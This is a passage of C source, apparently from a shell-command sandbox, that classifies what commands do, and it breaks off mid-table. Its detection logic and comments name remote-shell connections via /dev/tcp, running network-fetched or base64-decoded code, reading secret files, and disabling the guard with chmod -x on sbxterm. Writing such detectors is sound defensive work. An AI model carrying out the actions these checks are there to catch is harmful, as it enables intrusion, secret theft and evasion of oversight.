/* intercept/effects.c - what the simple commands of one line do */
#include "intercept/effects.h"

#include <fnmatch.h>
#include <string.h>

#include "intercept/cmdexe.h"
#include "intercept/code.h"
#include "intercept/environ.h"
#include "intercept/pwsh.h"
#include "intercept/special.h"
#include "intercept/stream.h"
#include "intercept/verbs.h"

#define EFFECTS_SCRIPTS	16		/* script files read for one line */
#define SCRIPT_BYTES	(128u << 10)

void effects_init(struct effects *fx)
{
	fx->paths = (struct paths){ fx->mem, fx->conf, fx->world, fx->line, NULL, SIZE_MAX };
}

/* ---- names ------------------------------------------------------------------------------- */

static const char *base_name(const char *path)
{
	const char *slash = strrchr(path, '/');

	return slash ? slash + 1 : path;
}

static const char *program_of(const struct simple *s)
{
	return s->argc && s->argv[0].kind == WORD_EXACT ? s->argv[0].text : "";
}

/* ---- lists in the arena -------------------------------------------------------------------- */

static void *grow(struct effects *fx, void *list, size_t n, size_t *cap, size_t size)
{
	void *more;
	size_t want = *cap ? *cap * 2 : 16;

	if (n < *cap)
		return list;
	more = arena_alloc(fx->mem, want * size);
	if (!more) {
		fx->too_big = true;
		return NULL;
	}
	if (n)
		memcpy(more, list, n * size);
	*cap = want;
	return more;
}

static struct effect *add_effect(struct effects *fx, struct effect e)
{
	static struct effect lost;
	struct effect *list = fx->n < EFFECTS_MAX ? grow(fx, fx->effect, fx->n, &fx->cap, sizeof(*list)) : NULL;

	if (!list) {
		fx->too_big = true;
		lost = e;
		return &lost;
	}
	if (fx->foreign)
		e.flags |= EFFECT_REMOTE;
	if (fx->file) {
		e.file = fx->file->path;
		e.line = fx->file->no_line ? 0 : fx->file->line ? fx->file->line : e.cmd->line;
	}
	fx->effect = list;
	list[fx->n] = e;
	return &list[fx->n++];
}

struct effect *effects_plain(struct effects *fx, const struct simple *s, enum effect_kind kind, const char *what)
{
	return add_effect(fx, (struct effect){ .kind = kind, .cmd = s, .what = what, .span = s->span });
}

void effects_mark(struct effects *fx, const struct simple *s, unsigned flags)
{
	for (; s; s = s->via) {
		struct seen *list;
		size_t i;

		for (i = 0; i < fx->nseen && fx->seen[i].cmd != s; i++)
			;
		if (i == fx->nseen) {
			list = grow(fx, fx->seen, fx->nseen, &fx->capseen, sizeof(*list));
			if (!list)
				return;
			fx->seen = list;
			list[fx->nseen++] = (struct seen){ .cmd = s };
		}
		fx->seen[i].flags |= flags;
	}
}

static unsigned seen_of(const struct effects *fx, const struct simple *s)
{
	unsigned flags = 0;

	for (size_t i = 0; i < fx->nseen; i++)
		flags |= fx->seen[i].cmd == s ? fx->seen[i].flags : 0;
	return flags;
}

unsigned effects_seen(const struct effects *fx, const struct simple *s)
{
	unsigned flags = 0, stages = 0;

	for (; s && stages++ < 256; s = s->pipe_from)
		flags |= seen_of(fx, s);
	return flags;
}

/* What substitutions inside the words of @s brought in. */
static unsigned seen_inside(const struct effects *fx, const struct word *w)
{
	unsigned flags = 0;

	if (w->kind == WORD_EXACT && !w->quoted)
		return 0;
	for (size_t i = 0; i < fx->nseen; i++) {
		const struct simple *c = fx->seen[i].cmd;

		if ((c->flags & SIMPLE_SUBST) && c->span.from >= w->span.from && c->span.to <= w->span.to &&
		    w->span.to > w->span.from)
			flags |= fx->seen[i].flags;
	}
	return flags;
}

bool effects_inside_says(const struct effects *fx, const struct word *w, const char *text)
{
	for (size_t i = 0; w->span.to > w->span.from && i < fx->ncmd; i++) {
		const struct simple *c = fx->cmd[i];

		if (!(c->flags & SIMPLE_SUBST) || c->span.from < w->span.from || c->span.to > w->span.to)
			continue;
		for (size_t k = 0; k < c->argc; k++) {
			if (c->argv[k].kind == WORD_EXACT && strstr(c->argv[k].text, text))
				return true;
		}
	}
	return false;
}

struct effect *effects_path(struct effects *fx, const struct simple *s, enum effect_kind kind, const struct word *w,
			    const char *what)
{
	struct effect e = { .kind = kind, .path = w, .what = what, .cmd = s, .span = s->span };

	if (w && w->span.to > w->span.from)
		e.span = w->span;
	if (w && w->kind == WORD_UNKNOWN && kind != EFFECT_READ && effects_inside_says(fx, w, "sbxterm"))
		e.kind = EFFECT_GUARD;	/* chmod -x "$(command -v sbxterm)" */
	if (w && kind == EFFECT_READ && (paths_word(&fx->paths, w, s->cwd, true)->flags & PATH_SECRET))
		effects_mark(fx, s, SEEN_SECRET);
	return add_effect(fx, e);
}

struct word effects_word(const struct word *like, const char *text)
{
	struct word w = { .kind = WORD_EXACT, .text = text };

	if (like) {
		w.span = like->span;
		w.var = like->var;
		w.nvar = like->nvar;
		w.quoted = true;
		w.windows = like->windows;
	}
	return w;
}

struct word *effects_keep(struct effects *fx, struct word w)
{
	struct word *copy = arena_alloc(fx->mem, sizeof(*copy));

	if (copy)
		*copy = w;
	else
		fx->too_big = true;
	return copy;
}

/* ---- what earlier commands made ------------------------------------------------------------- */

void effects_make(struct effects *fx, struct made made)
{
	struct made *list = grow(fx, fx->made, fx->nmade, &fx->capmade, sizeof(*list));

	if (!list || !made.abs)
		return;
	fx->made = list;
	made.after = fx->n;
	list[fx->nmade++] = made;
}

/* The last one counts. */
const struct made *effects_made(const struct effects *fx, const char *abs)
{
	for (size_t i = fx->nmade; abs && i-- > 0; ) {
		const struct made *m = &fx->made[i];

		if (!strcmp(m->abs, abs) || (m->tree && paths_below(abs, m->abs)))
			return m;
	}
	return NULL;
}

/* ---- nested commands ------------------------------------------------------------------------ */

int effects_words(struct effects *fx, const struct simple *s, const struct word *argv, size_t n)
{
	struct simple *in = arena_alloc(fx->mem, sizeof(*in));
	int rc;

	if (!in || fx->depth >= EFFECTS_DEPTH) {
		fx->too_big = true;
		return -1;
	}
	*in = (struct simple){
		.argv = argv, .argc = n, .cwd = s->cwd, .cwd_why = s->cwd_why, .pipe_from = s->pipe_from,
		.stdin_text = s->stdin_text, .via = s, .span = s->span, .flags = s->flags & ~(unsigned)SIMPLE_BUILTIN,
		.depth = s->depth + 1,
	};
	if (n && argv[0].span.to > argv[0].span.from && argv[n - 1].span.to >= argv[0].span.to)
		in->span = (struct span){ argv[0].span.from, argv[n - 1].span.to };
	fx->depth++;
	rc = effects_add(fx, in);
	fx->depth--;
	return rc;
}

int effects_command(struct effects *fx, const struct simple *s, size_t at)
{
	if (at >= s->argc)
		return 0;
	return effects_words(fx, s, s->argv + at, s->argc - at);
}

int effects_foreign(struct effects *fx, const struct simple *s, size_t at)
{
	int rc;

	fx->foreign++;
	rc = effects_command(fx, s, at);
	fx->foreign--;
	return rc;
}

int effects_foreign_text(struct effects *fx, const struct simple *s, const struct word *text)
{
	int rc;

	fx->foreign++;
	rc = effects_code(fx, s, "sh", text);
	fx->foreign--;
	return rc;
}

int effects_after_dashes(struct effects *fx, const struct simple *s)
{
	for (size_t i = 1; i + 1 < s->argc; i++) {
		if (s->argv[i].kind == WORD_EXACT && !strcmp(s->argv[i].text, "--"))
			return effects_command(fx, s, i + 1);
	}
	return 0;
}

static bool is_shell_lang(const char *lang)
{
	return !strcmp(lang, "sh") || !strcmp(lang, "bash") || !strcmp(lang, "zsh") || !strcmp(lang, "fish");
}

static int shell_text(struct effects *fx, const struct simple *s, const char *text, size_t len, struct span span,
		      bool own, const struct word *args, size_t nargs)
{
	int rc;

	if (fx->depth >= EFFECTS_DEPTH) {
		fx->too_big = true;
		return -1;
	}
	if (!fx->expand) {
		effects_plain(fx, s, EFFECT_UNKNOWN, "runs shell text");
		return 0;
	}
	fx->depth++;
	rc = expand_nested(fx->expand, s, text, len, span, own, args, nargs);
	fx->depth--;
	return rc;
}

int effects_text(struct effects *fx, const struct simple *s, const char *lang, const char *text, size_t len,
		 struct span span)
{
	if (!strcmp(lang, "eval"))	/* in this shell: its changes stay */
		return shell_text(fx, s, text, len, span, false, NULL, 0);
	if (is_shell_lang(lang))
		return shell_text(fx, s, text, len, span, true, NULL, 0);
	if (!strcmp(lang, "powershell"))
		return pwsh_text(fx, s, text, len, span);
	if (!strcmp(lang, "cmd"))
		return cmdexe_text(fx, s, text, len, span, false);
	if (!strcmp(lang, "batch"))
		return cmdexe_text(fx, s, text, len, span, true);
	return code_scan(fx, s, lang, text, len, span);
}

static struct stream inner_output(struct effects *fx, const struct word *w);

/* eval "$(echo ... | base64 -d)": asked anyway, but what comes out of the decoder may be worse than that. */
static int decoded_code(struct effects *fx, const struct simple *s, const char *lang, const struct word *code)
{
	struct stream st = code->kind == WORD_UNKNOWN ? inner_output(fx, code) : (struct stream){ 0 };

	return st.origin == ORIGIN_TEXT ? effects_text(fx, s, lang, st.text, st.len, code->span) : 0;
}

/* source <(kubectl completion bash) */
static bool prints_completion(const struct effects *fx, const struct simple *c)
{
	const char *word = c->argc > 2 && c->argv[1].kind == WORD_EXACT ? c->argv[1].text : "";

	return (!strcmp(word, "completion") || !strcmp(word, "completions")) && programs_find(fx->programs, program_of(c));
}

/* eval "$(direnv hook bash)": programs whose output is made to be run by this shell. */
static bool prints_setup(const struct effects *fx, const struct word *w)
{
	static const struct { const char *program, *word; } known[] = {
		{ "direnv", "hook" }, { "direnv", "export" }, { "starship", "init" }, { "zoxide", "init" }, { "pyenv", "init" }, { "rbenv", "init" },
		{ "nodenv", "init" }, { "goenv", "init" }, { "jenv", "init" }, { "fnm", "env" }, { "mise", "activate" }, { "rtx", "activate" },
		{ "brew", "shellenv" }, { "conda", "shell.bash" }, { "micromamba", "shell" }, { "opam", "env" }, { "luarocks", "path" },
		{ "ssh-agent", NULL }, { "dircolors", NULL }, { "lesspipe", NULL }, { "resize", NULL }, { "asdf", "env" }, { "poetry", "env" },
		{ "mcfly", "init" }, { "atuin", "init" }, { "thefuck", "--alias" }, { "hatch", "env" }, { "cs", "java" }, { "go", "env" },
	};
	size_t inner = 0;
	bool fine = true;

	for (size_t i = 0; w->span.to > w->span.from && i < fx->ncmd; i++) {
		const struct simple *c = fx->cmd[i];
		bool hit = false;

		if (!(c->flags & SIMPLE_SUBST) || c->span.from < w->span.from || c->span.to > w->span.to)
			continue;
		inner++;
		for (size_t k = 0; k < ARRAY_SIZE(known) && !hit; k++)
			hit = !strcmp(base_name(program_of(c)), known[k].program) &&
			      (!known[k].word || (c->argc > 1 && c->argv[1].kind == WORD_EXACT && !strcmp(c->argv[1].text, known[k].word)));
		hit = hit || prints_completion(fx, c);
		fine = fine && hit && !strchr(program_of(c), '/');
	}
	return inner && fine && w->prefix && !*w->prefix && (!w->suffix || !*w->suffix);
}

int effects_code(struct effects *fx, const struct simple *s, const char *lang, const struct word *code)
{
	if (code->kind == WORD_EXACT && !*code->text && code->nvar) {
		effects_path(fx, s, EFFECT_UNKNOWN, code, "runs the value of a variable, which is empty now")->path = NULL;
		return 0;
	}
	if (code->kind == WORD_EXACT)
		return effects_text(fx, s, lang, code->text, strlen(code->text), code->span);
	if (code->kind == WORD_UNKNOWN && (seen_inside(fx, code) & SEEN_NETWORK)) {
		effects_path(fx, s, EFFECT_FETCH_CODE, code, "runs text from the network");
		return 0;
	}
	if (prints_setup(fx, code))
		return 0;
	effects_path(fx, s, EFFECT_UNKNOWN, code, "runs code that is not known before it runs");
	return decoded_code(fx, s, lang, code);
}

/* "#!/usr/bin/env python3" -> "python"; no first line of that kind: "sh". */
static const char *shebang_lang(const char *text)
{
	static const struct { const char *name, *lang; } known[] = {
		{ "python", "python" }, { "node", "js" }, { "deno", "js" }, { "bun", "js" }, { "perl", "perl" },
		{ "ruby", "ruby" }, { "php", "php" }, { "lua", "lua" }, { "awk", "awk" }, { "sh", "sh" },
	};
	size_t line = strcspn(text, "\n");

	if (strncmp(text, "#!", 2) != 0)
		return "sh";
	for (size_t i = 0; i < ARRAY_SIZE(known); i++) {
		if (memmem(text, line, known[i].name, strlen(known[i].name)))
			return known[i].lang;
	}
	return "";
}

static const char *name_lang(const char *path)
{
	static const struct { const char *suffix, *lang; } known[] = {
		{ ".sh", "sh" }, { ".bash", "sh" }, { ".zsh", "zsh" }, { ".fish", "fish" }, { ".py", "python" }, { ".js", "js" },
		{ ".mjs", "js" }, { ".cjs", "js" }, { ".ts", "js" }, { ".pl", "perl" }, { ".rb", "ruby" },
		{ ".php", "php" }, { ".lua", "lua" }, { ".awk", "awk" }, { ".sed", "sed" }, { ".sql", "sql" }, { ".ps1", "powershell" }, { ".psm1", "powershell" }, { ".bat", "batch" },
		{ ".cmd", "batch" },
	};
	const char *dot = strrchr(path, '.');

	for (size_t i = 0; dot && i < ARRAY_SIZE(known); i++) {
		if (!strcmp(dot, known[i].suffix))
			return known[i].lang;
	}
	return NULL;
}

bool effects_may_read(const struct effects *fx)
{
	return !fx->foreign && fx->scripts < EFFECTS_SCRIPTS;
}

int effects_from_file(struct effects *fx, const struct simple *s, const char *lang, const char *text, struct span span,
		      const struct source_file *file)
{
	const struct source_file *old = fx->file;
	int rc;

	fx->file = file;
	rc = effects_text(fx, s, lang, text, strlen(text), span);
	fx->file = old;
	return rc;
}

static bool is_binary(const struct buf *b)
{
	return memchr(buf_str(b), 0, b->len) != NULL;
}

static int read_script(struct effects *fx, const struct simple *s, const char *lang, const struct word *file,
		       const char *abs, size_t at)
{
	const struct source_file *old = fx->file, now = { abs, 0, false };
	struct buf text;
	char *copy = NULL;
	size_t len = 0;
	int rc = 0;

	buf_init(&text, SCRIPT_BYTES);
	if (fx->world && effects_may_read(fx) && fx->world->read(fx->world->arg, abs, &text) == 0 &&
	    !is_binary(&text)) {
		fx->scripts++;
		len = text.len;
		copy = arena_strndup(fx->mem, buf_str(&text), len);
	}
	buf_done(&text);
	if (!copy)
		return 0;
	if (!*lang)
		lang = strncmp(copy, "#!", 2) != 0 && name_lang(abs) ? name_lang(abs) : shebang_lang(copy);
	fx->file = &now;
	if (is_shell_lang(lang) || !strcmp(lang, "eval"))
		rc = shell_text(fx, s, copy, len, file->span, strcmp(lang, "eval") != 0, s->argv + MIN(at, s->argc),
				s->argc - MIN(at, s->argc));
	else if (*lang)
		rc = effects_text(fx, s, lang, copy, len, file->span);
	fx->file = old;
	return rc;
}

int effects_startup(struct effects *fx, const struct simple *s, const char *lang, const struct word *blame, const char *path)
{
	const struct path *p = path ? paths_text(&fx->paths, path, s->cwd, true) : NULL;

	return p && p->abs ? read_script(fx, s, lang, blame, p->abs, s->argc) : 0;
}

/* Text that this very line wrote into the file. */
static int made_script(struct effects *fx, const struct simple *s, const char *lang, const struct word *file,
		       const struct made *m)
{
	if (m->from.origin == ORIGIN_NETWORK) {
		effects_path(fx, s, EFFECT_FETCH_CODE, file, "runs a file that was fetched from the network");
		return 0;
	}
	if (m->from.origin == ORIGIN_TEXT)
		return effects_text(fx, s, *lang ? lang : shebang_lang(m->from.text), m->from.text, m->from.len,
				    file->span);
	return 0;
}

static bool is_process_substitution(const struct word *w)
{
	return w->kind == WORD_UNKNOWN && w->prefix && !strcmp(w->prefix, "/dev/fd/");
}

const struct simple *effects_inside(const struct effects *fx, const struct word *w)
{
	const struct simple *last = NULL;

	for (size_t i = 0; w->span.to > w->span.from && i < fx->ncmd; i++) {
		const struct simple *c = fx->cmd[i];

		if ((c->flags & SIMPLE_SUBST) && !c->via && c->span.from >= w->span.from && c->span.to <= w->span.to)
			last = c;
	}
	return last;
}

/* What it prints, where it can be told. */
static struct stream inner_output(struct effects *fx, const struct word *w)
{
	const struct simple *last = effects_inside(fx, w);

	return last ? stream_output(fx, last) : (struct stream){ 0 };
}

/* bash <(command): what the last command of the substitution prints is the script. */
static int substitution_code(struct effects *fx, const struct simple *s, const char *lang, const struct word *w)
{
	struct stream st = inner_output(fx, w);

	if (st.origin == ORIGIN_TEXT)
		return effects_text(fx, s, lang, st.text, st.len, w->span);
	if (is_shell_lang(lang) || !strcmp(lang, "eval")) {
		struct word whole = *w;

		whole.prefix = "";
		if (prints_setup(fx, &whole))
			return 0;
	}
	effects_path(fx, s, (seen_inside(fx, w) & SEEN_NETWORK) ? EFFECT_FETCH_CODE : EFFECT_UNKNOWN, w,
		     (seen_inside(fx, w) & SEEN_NETWORK) ? "runs text from the network" : "runs what another program prints");
	return 0;
}

int effects_script(struct effects *fx, const struct simple *s, const char *lang, const struct word *file, size_t at)
{
	const struct path *p;
	const struct made *m;

	if (is_process_substitution(file))
		return substitution_code(fx, s, lang, file);
	if (file->kind != WORD_EXACT) {
		if (seen_inside(fx, file) & SEEN_NETWORK)
			effects_path(fx, s, EFFECT_FETCH_CODE, file, "runs text from the network");
		else
			effects_path(fx, s, EFFECT_EXEC, file, "runs a script");
		return 0;
	}
	if (!strcmp(file->text, "-") || !strcmp(file->text, "/dev/stdin") || !strcmp(file->text, "/dev/fd/0"))
		return effects_stdin_code(fx, s, lang);
	p = paths_word(&fx->paths, file, s->cwd, true);
	m = effects_made(fx, p->abs);
	if (m)
		return made_script(fx, s, lang, file, m);
	effects_path(fx, s, EFFECT_EXEC, file, "runs a script");
	fx->sourced = fx->sourced || (!strcmp(lang, "eval") && p->zone == ZONE_WORKSPACE);
	return p->abs ? read_script(fx, s, lang, file, p->abs, at) : 0;
}

/* ---- standard input ------------------------------------------------------------------------- */

static const struct redir *stdin_redir(const struct simple *s)
{
	const struct redir *hit = NULL;

	for (size_t i = 0; i < s->nredir; i++) {
		const struct redir *r = &s->redir[i];

		if ((r->op == REDIR_READ || r->op == REDIR_RDWR || r->op == REDIR_DUP_IN || r->op == REDIR_DUP_OUT) && r->fd == 0)
			hit = r;
	}
	return hit;
}

/* A wrapper hands its own input on: sudo bash < f, env bash <<EOF. */
static struct stream redir_stream(const struct simple *s)
{
	for (; s; s = s->via) {
		const struct redir *r = stdin_redir(s);

		if (r && (r->op == REDIR_DUP_IN || r->op == REDIR_DUP_OUT))
			return (struct stream){ .origin = ORIGIN_UNKNOWN, .span = r->span };
		if (r)
			return (struct stream){ .origin = ORIGIN_FILE, .file = &r->target, .span = r->span };
	}
	return (struct stream){ 0 };
}

struct stream effects_stdin(struct effects *fx, const struct simple *s)
{
	struct stream st;

	if (s->stdin_text && s->stdin_text->kind == WORD_EXACT)
		return (struct stream){ .origin = ORIGIN_TEXT, .text = s->stdin_text->text,
					.len = strlen(s->stdin_text->text), .span = s->stdin_text->span };
	if (s->stdin_text)
		return (struct stream){
			.origin = (seen_inside(fx, s->stdin_text) & SEEN_NETWORK) ? ORIGIN_NETWORK : ORIGIN_UNKNOWN,
			.span = s->stdin_text->span,
		};
	st = redir_stream(s);
	if (st.origin == ORIGIN_FILE && is_process_substitution(st.file)) {
		struct stream in = inner_output(fx, st.file);

		return in.origin == ORIGIN_TEXT ? in : st;
	}
	if (st.origin)
		return st;
	if (!s->pipe_from)
		return st;
	st = stream_output(fx, s->pipe_from);
	if (st.origin != ORIGIN_TEXT && (effects_seen(fx, s->pipe_from) & SEEN_NETWORK))
		st.origin = ORIGIN_NETWORK;
	if (st.origin == ORIGIN_NONE)
		st.origin = ORIGIN_UNKNOWN;
	return st;
}

static bool net_fd_open(const struct effects *fx)
{
	for (size_t i = 0; i < fx->n; i++) {
		if (fx->effect[i].kind == EFFECT_NET && fx->effect[i].scope && !strcmp(fx->effect[i].scope, "device"))
			return true;
	}
	return false;
}

/* exec python3: what takes the place of the gated shell is not gated, and nothing comes back. A bash gates itself. */
static bool replaces_shell(const struct simple *s)
{
	const struct simple *via = s->via;

	return via && !via->depth && via->argc && via->argv[0].kind == WORD_EXACT && !strcmp(via->argv[0].text, "exec") &&
	       !(s->argc && s->argv[0].kind == WORD_EXACT && !strcmp(s->argv[0].text, "bash"));
}

int effects_stdin_code(struct effects *fx, const struct simple *s, const char *lang)
{
	struct stream st = effects_stdin(fx, s);

	switch (st.origin) {
	case ORIGIN_NONE:
		effects_plain(fx, s, EFFECT_INTERACTIVE, "starts an interactive shell or interpreter");
		if (replaces_shell(s))
			effects_plain(fx, s, EFFECT_SHELL_STATE, "puts something that is not gated in the place of the shell");
		return 0;
	case ORIGIN_TEXT:
		return effects_text(fx, s, lang, st.text, st.len, st.span);
	case ORIGIN_NETWORK:
		effects_plain(fx, s, EFFECT_FETCH_CODE, "runs what comes from the network");
		return 0;
	case ORIGIN_FILE:
		return effects_script(fx, s, lang, st.file, s->argc);
	case ORIGIN_UNKNOWN:
		break;
	}
	if (net_fd_open(fx))
		effects_plain(fx, s, EFFECT_REMOTE_SHELL, "gives a shell to the network");
	else
		effects_plain(fx, s, EFFECT_UNKNOWN, "runs what another program prints");
	return s->stdin_text ? decoded_code(fx, s, lang, s->stdin_text) : 0;
}

/* ---- hosts ---------------------------------------------------------------------------------- */

bool effects_secret_name(const char *name)
{
	static const char *const part[] = {
		"TOKEN", "SECRET", "PASSWORD", "PASSWD", "PASSPHRASE", "API_KEY", "APIKEY", "ACCESS_KEY", "PRIVATE_KEY",
		"CREDENTIAL", "AUTH_KEY",
	};

	for (size_t i = 0; i < ARRAY_SIZE(part); i++) {
		if (strcasestr(name, part[i]))
			return true;
	}
	return false;
}

/* "https://user@host:80/path" -> "host:80"; "user@host:dir" -> "host"; a bare word is a host. */
static char *host_of(struct arena *mem, const char *s)
{
	const char *scheme = strstr(s, "://"), *end, *at;

	if (scheme)
		s = scheme + 3;
	end = s + strcspn(s, "/?#");
	at = memrchr(s, '@', (size_t)(end - s));
	if (at)
		s = at + 1;
	if (!scheme && at && memchr(s, ':', (size_t)(end - s)))
		end = memchr(s, ':', (size_t)(end - s));
	return arena_strndup(mem, s, (size_t)(end - s));
}

void effects_host(struct effects *fx, const struct simple *s, const struct word *w, const char *text)
{
	struct effect *e = effects_path(fx, s, EFFECT_NET, w, "reaches a host");
	/* ?x=1 in an address is a pattern to the shell, but the host stands before it */
	const char *known = text ? text : w && (w->kind == WORD_EXACT || (w->kind == WORD_PATTERN && strstr(w->text, "://"))) ? w->text : NULL;

	e->path = NULL;
	if (!known && w && w->kind == WORD_UNKNOWN && w->prefix && strstr(w->prefix, "://") &&
	    strchr(strstr(w->prefix, "://") + 3, '/'))
		known = w->prefix;	/* the host is complete, only the rest is not known */
	if (known)
		e->host = host_of(fx->mem, known);
	effects_mark(fx, s, SEEN_NETWORK | SEEN_HOST);
}

/* ---- redirections --------------------------------------------------------------------------- */

static void net_device(struct effects *fx, const struct simple *s, const struct path *p, const struct word *w)
{
	struct effect *e = effects_path(fx, s, EFFECT_NET, w, "opens a connection");
	const char *name = p->abs + strlen("/dev/tcp/");
	char *host = arena_strdup(fx->mem, name), *slash = host ? strrchr(host, '/') : NULL;

	if (slash)
		*slash = ':';
	e->path = NULL;
	e->host = host;
	e->scope = "device";
	effects_mark(fx, s, SEEN_NETWORK | SEEN_HOST);
}

static bool is_output(enum redir_op op)
{
	return op == REDIR_WRITE || op == REDIR_APPEND || op == REDIR_CLOBBER || op == REDIR_BOTH ||
	       op == REDIR_BOTH_APPEND || op == REDIR_RDWR;
}

static void add_redir(struct effects *fx, const struct simple *s, const struct redir *r)
{
	bool append = r->op == REDIR_APPEND || r->op == REDIR_BOTH_APPEND || r->op == REDIR_RDWR;
	const struct path *p;
	struct effect *e;

	if (r->op != REDIR_READ && !is_output(r->op))
		return;
	p = paths_word(&fx->paths, &r->target, s->cwd, true);
	if (p->zone == ZONE_EMPTY)
		return;		/* the shell refuses it */
	if (p->zone == ZONE_NETDEV) {
		net_device(fx, s, p, &r->target);
		return;
	}
	if (r->op == REDIR_READ) {
		effects_path(fx, s, EFFECT_READ, &r->target, "reads");
		return;
	}
	e = effects_path(fx, s, append ? EFFECT_WRITE : EFFECT_OVERWRITE, &r->target, "writes");
	if (append)
		e->flags |= EFFECT_APPEND;
}

/* Text put into a start-up file or a hook runs by itself later: it may be worse than the file is protected. */
static int judge_planted(struct effects *fx, const struct simple *s, const struct path *p, struct stream st, struct span span)
{
	const char *base = p->abs ? base_name(p->abs) : "";

	if (!(p->flags & PATH_PROTECTED) || st.origin != ORIGIN_TEXT || strchr(base, '.') > base || !strncmp(base, "config", 6))
		return 0;	/* .bashrc, pre-commit: not settings.json */
	return effects_text(fx, s, "sh", st.text, st.len, span);
}

/* After the command itself: what the file now holds. */
static void record_output(struct effects *fx, const struct simple *s)
{
	for (size_t i = 0; i < s->nredir; i++) {
		const struct redir *r = &s->redir[i];
		const struct path *p;
		struct stream st = { .origin = ORIGIN_UNKNOWN };

		if (!is_output(r->op) || r->fd == 2 || r->target.kind != WORD_EXACT)
			continue;
		p = paths_word(&fx->paths, &r->target, s->cwd, true);
		if (!p->abs || p->zone == ZONE_SINK)
			continue;
		if (r->op != REDIR_APPEND || (p->flags & PATH_PROTECTED))
			st = stream_output(fx, s);
		if (judge_planted(fx, s, p, st, r->span) < 0)
			return;
		if (r->op == REDIR_APPEND)
			st = (struct stream){ .origin = ORIGIN_UNKNOWN };
		if (st.origin != ORIGIN_TEXT && (effects_seen(fx, s) & SEEN_NETWORK))
			st.origin = ORIGIN_NETWORK;
		effects_make(fx, (struct made){ .abs = p->abs, .from = st, .fresh = r->op != REDIR_APPEND || p->type == WORLD_ABSENT });
	}
}

/* ---- assignments ---------------------------------------------------------------------------- */

static bool is_guard_variable(const char *name)
{
	return !strncmp(name, "SBXTERM", 7) || !strncmp(name, "SBX_", 4) || !strcmp(name, "PROMPT_COMMAND") ||
	       !strcmp(name, "PS0");
}

bool effects_own_pid(const struct effects *fx, const char *name)
{
	for (size_t i = 0; i < fx->nown; i++) {
		if (!strcmp(fx->own_pid[i], name))
			return true;
	}
	return false;
}

/* SERVER=$! */
static void note_own_pid(struct effects *fx, const struct assign *a)
{
	if (fx->nown < ARRAY_SIZE(fx->own_pid) && a->value.nvar == 1 && !strcmp(a->value.var[0].name, "!"))
		fx->own_pid[fx->nown++] = a->name;
}

static int add_assign(struct effects *fx, const struct simple *s, const struct assign *a)
{
	bool no_history = !strcmp(a->name, "HISTSIZE") && a->value.kind == WORD_EXACT && !strcmp(a->value.text, "0");
	struct effect *e;

	note_own_pid(fx, a);
	if (no_history || is_guard_variable(a->name)) {
		e = effects_path(fx, s, EFFECT_GUARD, &a->value, "changes what sbxterm relies on");
		e->span = a->span;
		e->path = NULL;
		return 0;
	}
	return environ_assign(fx, s, a);
}

/* ---- acts ----------------------------------------------------------------------------------- */

/* A word that holds a file name behind a mark: "@file", "name=@file". */
static const struct word *at_file(struct effects *fx, const struct word *w)
{
	const char *text = w->kind == WORD_UNKNOWN ? w->prefix : w->text;
	const char *content = text ? strstr(text, "=<") : NULL;	/* curl -F "name=<file" */
	const char *at = content ? content + 1 : text ? strchr(text, '@') : NULL;
	struct word f = *w;

	/* in a pattern it is escaped */
	const char *before = at && at > text && at[-1] == '\\' && w->kind == WORD_PATTERN ? at - 1 : at;

	if (!at || (before != text && before[-1] != '=' && before[-1] != '<'))
		return NULL;
	if (w->kind == WORD_UNKNOWN)
		f.prefix = at + 1;
	else
		f.text = at + 1;
	if (f.text && strchr(f.text, ';'))	/* curl -F "f=@file;type=x" */
		f.text = arena_strndup(fx->mem, f.text, strcspn(f.text, ";"));
	return effects_keep(fx, f);
}

static void act_send(struct effects *fx, const struct simple *s, const struct act *act, const struct word *w)
{
	const struct word *file = act->arg && !strcmp(act->arg, "at") ? at_file(fx, w) : w;
	struct effect *e;

	if (!file)
		return;
	if (file->kind == WORD_EXACT && (!strcmp(file->text, "-") || !strcmp(file->text, ".")))
		return;
	e = effects_path(fx, s, EFFECT_SEND, file, act->what ? act->what : "sends a file");
	if (paths_word(&fx->paths, file, s->cwd, true)->flags & PATH_SECRET)
		e->flags |= EFFECT_OF_SECRET;
}

/* "left-pad@1" is a name; an address, a repository or an archive outside is not what a registry checked. */
static void act_package(struct effects *fx, const struct simple *s, const struct act *act, const struct word *w)
{
	const char *t = w->kind == WORD_EXACT ? w->text : w->kind == WORD_UNKNOWN ? w->prefix : NULL;

	if (t && (strstr(t, "://") || !strncmp(t, "git+", 4) || !strncmp(t, "git@", 4) || !strncmp(t, "github:", 7)))
		effects_host(fx, s, w, strncmp(t, "git+", 4) ? NULL : t + 4);
	if (act->what)
		effects_path(fx, s, EFFECT_INSTALL, w, act->what)->scope = act->arg;
}

static void act_split(struct effects *fx, const struct simple *s, const struct word *w, size_t next)
{
	if (w->kind != WORD_EXACT) {
		effects_path(fx, s, EFFECT_UNKNOWN, w, "runs code that is not known before it runs");
		return;
	}
	/* read as shell text: the same for all but odd quoting; what follows are more words of it */
	struct buf line;

	buf_init(&line, CMDLINE_MAX);
	buf_adds(&line, w->text);
	for (size_t i = next; i < s->argc; i++) {
		if (s->argv[i].kind == WORD_EXACT)
			buf_addf(&line, " '%s'", strchr(s->argv[i].text, '\'') ? "?" : s->argv[i].text);
	}
	char *text = arena_strndup(fx->mem, buf_str(&line), line.len);

	if (text)
		effects_text(fx, s, "sh", text, line.len, w->span);
	buf_done(&line);
}

static void note_made(struct effects *fx, const struct simple *s, const struct word *w, bool replaced, bool tree)
{
	const struct path *p = paths_word(&fx->paths, w, s->cwd, true);
	struct made m = { .abs = p->abs, .tree = tree };

	m.from.origin = (effects_seen(fx, s) & SEEN_NETWORK) ? ORIGIN_NETWORK : ORIGIN_UNKNOWN;
	if (m.from.origin == ORIGIN_UNKNOWN && replaced && s->pipe_from &&
	    (!strcmp(base_name(program_of(s)), "tee") || !strcmp(base_name(program_of(s)), "sponge")))
		m.from = effects_stdin(fx, s);
	if (!strcmp(base_name(program_of(s)), "tee") && judge_planted(fx, s, p, effects_stdin(fx, s), w->span) < 0)
		return;
	m.fresh = (replaced && !tree) || p->type == WORLD_ABSENT;
	effects_make(fx, m);
}

static void path_act(struct effects *fx, const struct simple *s, const struct act *act, const struct word *w)
{
	static const struct { enum effect_kind kind; unsigned flags; const char *what; } table[VERB_COUNT] = {
		[VERB_READ]		= { EFFECT_READ, 0, "reads" },
		[VERB_WRITE]		= { EFFECT_WRITE, 0, "writes" },
		[VERB_OVERWRITE]	= { EFFECT_OVERWRITE, 0, "writes" },
		[VERB_EMPTY]		= { EFFECT_DELETE, EFFECT_FORCE, "empties" },
